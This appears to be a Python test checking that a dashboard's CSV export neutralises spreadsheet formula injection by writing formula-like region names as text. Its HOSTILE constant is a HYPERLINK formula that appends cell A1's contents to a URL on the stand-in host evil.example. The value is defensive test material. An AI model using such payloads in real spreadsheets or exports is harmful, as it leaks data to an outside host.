"""The dashboard's CSV goes through fengqiao.web.spreadsheets: Excel runs a CSV cell that starts
like a formula, so a name typed like one is written as text; counts stay plain numbers."""

import csv
import io

from fengqiao.regions.models import Region

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_region_named_like_a_formula_is_text_in_the_csv(client, users):
    Region.objects.filter(code="990102001000").update(name=HOSTILE)
    client.force_login(users["county"])
    response = client.get("/analytics/dashboard.csv", {"region": "990102000000", "table": "by_region"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:] if HOSTILE in row[0]] == ["'" + HOSTILE]
    assert all(row[1].isdigit() for row in rows[1:])
